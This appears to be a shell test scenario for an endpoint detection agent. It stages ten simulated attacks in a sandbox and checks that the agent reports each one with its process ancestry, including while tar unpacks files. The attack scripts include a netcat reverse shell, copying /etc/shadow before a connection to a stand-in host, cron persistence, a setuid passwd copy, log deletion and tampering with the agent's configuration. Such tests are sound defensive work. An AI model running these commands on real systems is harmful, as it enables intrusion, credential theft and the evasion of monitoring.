# shellcheck shell=dash
# Ten attacks, each a story of several processes, first alone and then while tar unpacks ten thousand files beside them:
# what the platform hears of them is the whole story, with everybody's ancestors, and nothing else.
# seconds: 1200
. /scenario/lib.sh

STORIES=/srv/stories
REMOTE=10.1.2.3
LABEL=

# story NAME: the script on standard input, which knows its round as $1.
story() { cat >"$STORIES/$1"; }

# ran WHO PROGRAM CHAIN: below whom. told WHO EVENT CHAIN: who did it.
told() { printf '%s\tdone %s by %s as %s\n' "$LABEL" "$2" "$3" "$1" >>$OWED_BY; }
ran() {
  told "$1" "RUNNING process $2" "$3"
  told "$1" "TERMINATED process $2" "$3"
}

write_stories() {
  story download <<DOWNLOAD
/usr/bin/curl connect $REMOTE 443
/usr/bin/cp /usr/bin/curl /tmp/\$1.update
/usr/bin/chmod 0700 /tmp/\$1.update
/tmp/\$1.update connect $REMOTE 4444
DOWNLOAD
  story cron <<'CRON'
echo '* * * * * root /tmp/update' | /usr/bin/tee /etc/cron.d/$1 >/dev/null
CRON
  story harvest <<HARVEST
/usr/bin/cat /etc/shadow >/dev/null
/usr/bin/cp /etc/shadow /tmp/\$1.loot
/usr/bin/curl connect $REMOTE 8443
HARVEST
  story plant-setuid <<'PLANT'
/usr/bin/cp /usr/bin/passwd /var/tmp/$1.helper
/usr/bin/chmod 4755 /var/tmp/$1.helper
PLANT
  story use-setuid <<'USE'
/var/tmp/$1.helper create /etc/cron.d/$1.by-alice >/dev/null
USE
  story hidden <<HIDDEN
/usr/bin/mkdir /dev/shm/.\$1
/usr/bin/cp /usr/bin/curl /dev/shm/.\$1/.tool
/dev/shm/.\$1/.tool connect $REMOTE 443
HIDDEN
  story logs <<'LOGS'
/usr/bin/rm /var/log/application/$1.log
/usr/bin/mv /var/log/application/$1.old /var/log/application/$1.gone
LOGS
  story reverse <<REVERSE
/usr/bin/nc $REMOTE 4445 -e /usr/bin/sh
REVERSE
  story tamper <<'TAMPER'
/usr/bin/chmod 0777 /opt/ostrel/host-warden/$1.key
/usr/bin/mv /opt/ostrel/host-warden/$1.conf /opt/ostrel/host-warden/$1.off
echo more | /usr/bin/tee -a /opt/ostrel/host-warden/$1.list >/dev/null
TAMPER
  story storm <<STORM
i=0
while [ \$i -lt 400 ]; do
  ( : )
  i=\$((i + 1))
  if [ \$i = 200 ]; then /usr/bin/cp /usr/bin/curl /tmp/\$1.covered; fi
done
/tmp/\$1.covered connect $REMOTE 443
STORM
  story interpreter <<'INTERPRETER'
/usr/bin/cp /srv/stories/payload /tmp/$1.job
/usr/bin/dash /tmp/$1.job /etc/cron.d/$1.argument
/tmp/$1.job /etc/cron.d/$1.shebang
INTERPRETER
  story payload <<'PAYLOAD'
#!/usr/bin/dash
/usr/bin/touch "$1"
:
PAYLOAD
  chmod -R 0755 $STORIES
}

# attack ROUND: acts them all out, and owes what is to be told of them.
attack() {
  local round=$1
  LABEL="$round: a log, before"
  /usr/bin/logger create /var/log/application/$round.log >/dev/null
  told root "CREATE file /var/log/application/$round.log" logger
  ran root /usr/bin/logger -
  expect "$LABEL" wait_until 60 ioc_came "ioc CREATE file /var/log/application/$round.log "

  LABEL="$round: download and run"
  alice $STORIES/download $round
  ran alice /usr/bin/sh -
  for program in curl cp chmod; do ran alice /usr/bin/$program sh; done
  told alice "ESTABLISHED network $REMOTE:443" "curl<sh"
  told alice "CREATE file /tmp/$round.update" "cp<sh"
  told alice "CHANGE file /tmp/$round.update" "chmod<sh"
  ran alice /tmp/$round.update sh
  told alice "ESTABLISHED network $REMOTE:4444" "$round.update<sh"

  LABEL="$round: persistence by cron"
  service $STORIES/cron $round
  ran root /usr/bin/sh -
  ran root /usr/bin/tee sh
  told root "CREATE file /etc/cron.d/$round" "tee<sh"

  LABEL="$round: credential harvest"
  administrator $STORIES/harvest $round
  ran root /usr/bin/sh -
  for program in cat cp curl; do ran root /usr/bin/$program sh; done
  told root "READ file /etc/shadow" "cat<sh"
  told root "READ file /etc/shadow" "cp<sh"
  told root "CREATE file /tmp/$round.loot" "cp<sh"
  told root "ESTABLISHED network $REMOTE:8443" "curl<sh"

  LABEL="$round: privilege by setuid"
  service $STORIES/plant-setuid $round
  ran root /usr/bin/sh -
  for program in cp chmod; do ran root /usr/bin/$program sh; done
  told root "CREATE file /var/tmp/$round.helper" "cp<sh"
  told root "CHANGE file /var/tmp/$round.helper" "chmod<sh"
  alice $STORIES/use-setuid $round
  ran alice /usr/bin/sh -
  ran alice /var/tmp/$round.helper sh
  told alice "CREATE file /etc/cron.d/$round.by-alice" "$round.helper<sh"

  LABEL="$round: hidden tool"
  alice $STORIES/hidden $round
  ran alice /usr/bin/sh -
  for program in mkdir cp; do ran alice /usr/bin/$program sh; done
  told alice "CREATE file /dev/shm/.$round/.tool" "cp<sh"
  ran alice /dev/shm/.$round/.tool sh
  told alice "ESTABLISHED network $REMOTE:443" ".tool<sh"

  LABEL="$round: log removal"
  service $STORIES/logs $round
  ran root /usr/bin/sh -
  for program in rm mv; do ran root /usr/bin/$program sh; done
  told root "DELETE file /var/log/application/$round.log" "rm<sh"
  told root "RENAME file /var/log/application/$round.old -> /var/log/application/$round.gone" "mv<sh"

  LABEL="$round: reverse connection"
  echo /usr/bin/id | nc -l -p 4445 >/dev/null &
  # It listens for both families, which is told among those of IPv6.
  wait_until 10 grep -qi ':115D [0-9A-F]*:0000 0A ' /proc/net/tcp /proc/net/tcp6
  alice $STORIES/reverse $round
  wait $!
  ran alice /usr/bin/sh -
  told alice "RUNNING process /usr/bin/nc" sh
  told alice "ESTABLISHED network $REMOTE:4445" "nc<sh"
  ran alice /usr/bin/sh sh
  ran alice /usr/bin/id "sh<sh"

  LABEL="$round: tampering with the agent's folder"
  service $STORIES/tamper $round
  ran root /usr/bin/sh -
  for program in chmod mv tee; do ran root /usr/bin/$program sh; done
  told root "CHANGE file /opt/ostrel/host-warden/$round.key" "chmod<sh"
  told root "RENAME file /opt/ostrel/host-warden/$round.conf -> /opt/ostrel/host-warden/$round.off" "mv<sh"
  told root "WRITE file /opt/ostrel/host-warden/$round.list" "tee<sh"

  LABEL="$round: fork storm"
  service $STORIES/storm $round
  ran root /usr/bin/sh -
  ran root /usr/bin/cp sh
  told root "CREATE file /tmp/$round.covered" "cp<sh"
  ran root /tmp/$round.covered sh
  told root "ESTABLISHED network $REMOTE:443" "$round.covered<sh"

  LABEL="$round: short-lived interpreter"
  service $STORIES/interpreter $round
  ran root /usr/bin/sh -
  ran root /usr/bin/cp sh
  told root "CREATE file /tmp/$round.job" "cp<sh"
  for way in argument shebang; do
    ran root /usr/bin/dash sh
    ran root /usr/bin/touch "dash<sh"
    told root "CREATE file /etc/cron.d/$round.$way" "touch<dash<sh"
  done
}

# wait_for_all ROUND
wait_for_all() {
  LABEL="$1: the last of it"
  /usr/bin/logger create /var/log/application/$1.last >/dev/null
  told root "CREATE file /var/log/application/$1.last" logger
  ran root /usr/bin/logger -
  wait_for_end_of "/usr/bin/logger create /var/log/application/$1.last"
}

folder() {
  printf '{"ruleId": "%s", "ruleType": "Directory", "imagePath": "%s", "recursiveDepth": "All",
    "notify": {"File": ["create", "write", "delete", "rename", "attribute"]}},' "$1" "$1"
}

programs_on_stage
mkdir -p $STORIES /etc/cron.d /var/tmp /var/log/application /opt/ostrel/host-warden /srv/unpacked /srv/packed
chmod 1777 /tmp /var/tmp
echo 'root:*:19000:0:99999:7:::' >/etc/shadow
for round in alone crowded; do
  for file in log.old opt.key opt.conf opt.list; do
    case $file in
      log.*) echo "$round" >/var/log/application/$round.old ;;
      opt.*) echo "$round" >/opt/ostrel/host-warden/$round.${file#opt.} ;;
    esac
  done
done
write_stories
ip addr add $REMOTE/8 dev lo
step "ten thousand files are packed"
folder=0
while [ $folder -lt 100 ]; do
  mkdir /srv/packed/$folder
  file=0
  while [ $file -lt 100 ]; do
    echo $file >/srv/packed/$folder/$file
    file=$((file + 1))
  done
  folder=$((folder + 1))
done
/usr/local/gnu/tar -C /srv -cf /srv/packed.tar packed
rm -r /srv/packed

write_configuration
log_level information
configure cpu_limit 100
configure_ioc max_file_size_kb 1000
ioc_manifest $CONF/ioc-manifest.json "$(for place in /tmp /var/tmp /dev/shm /etc/cron.d /var/log/application /opt/ostrel/host-warden /srv/unpacked; do
  folder $place
done)$(cat <<RULES
  {"ruleId": "shadow", "ruleType": "File", "imagePath": "/etc/shadow", "notify": {"File": ["read", "write", "rename", "delete"]}},
  {"ruleId": "programs", "ruleType": "Process", "notify": {"process": ["create", "delete"]},
    "exclusionFilters": [{"filterType": ["patterns"], "patterns": ["/bin/*", "/usr/local/*"]}]},
  {"ruleId": "connections", "ruleType": "Network", "notify": {"network": ["establish"]},
    "exclusionFilters": [{"filterType": ["actorProcess"], "actorProcess": ["/bin/*"]}]}
RULES
)" "$(cat <<ENGINES
, "heuristicsEnabled": true, "knownProcessPaths": ["/usr/bin/chmod", "/usr/bin/dash", "/usr/bin/rm"], "tags": {
    "thresholdScore": 40,
    "CredentialAccess": {"score": 40}, "DefenseEvasion": {"score": 20, "permissions": [777, 4755]},
    "Execution": {"score": 30}, "Exfiltration": {"score": 30}, "Persistence": {"score": 40},
    "PrivilegeEscalation": {"score": 20}}
ENGINES
)"
ioc_manifests $CONF/ioc-manifest.json
echo '{"data": {"fim": {"policyVersion": "1.0", "rules": []}}}' >$CONF/fim-manifest.json
start_configured
expect "the manifest is read" log_says "[IOC]: Successfully parsed manifest file $CONF/ioc-manifest.json"

step "ten attacks"
attack alone
wait_for_all alone

step "the same while tar unpacks beside them"
# Once is over too soon on a fast machine: again and again until the attacks are over.
unpack() {
  local round=0
  until [ -e /run/attacks-are-over ]; do
    /usr/local/gnu/tar --one-top-level=/srv/unpacked/$round -xf /srv/packed.tar || return
    round=$((round + 1))
    echo $round >/run/rounds
  done
}
unpack &
TAR=$!
wait_until 20 test -d /srv/unpacked/0/packed/0
attack crowded
: >/run/attacks-are-over
wait $TAR
expect "all is unpacked" is "$(find /srv/unpacked -type f | wc -l)" $(($(cat /run/rounds) * 10000))
wait_for_all crowded

ioc_stories | grep -v ' by tar as ' | grep -v '^event TERMINATED process /usr/local/gnu/tar ' >/run/ioc-events
expect "tar was heard, too" grep -q '^ioc CREATE file /srv/unpacked/.* actor=/usr/local/gnu/tar ' $LOG/receiver.log
printf 'what nobody owes\tnone pid=\n' >>$OWED_BY
judge /run/ioc-events
expect "the kernel has lost nothing" grep -q ' lost=0 ' <<STATUS
$(audit-rules status)
STATUS
expect "nothing of the daemon's own is told" not grep -E '^ioc .*(ostrel-edr|reference-(agent|receiver)|/var/(lib|log)/ostrel)' $LOG/receiver.log
expect "no batch is missing" no_gaps
stop_all
expect "nothing failed" not grep -E 'Uncaught exception|EventProcessor: Failed|Dropped [0-9]+ events' $LOG/edr.log
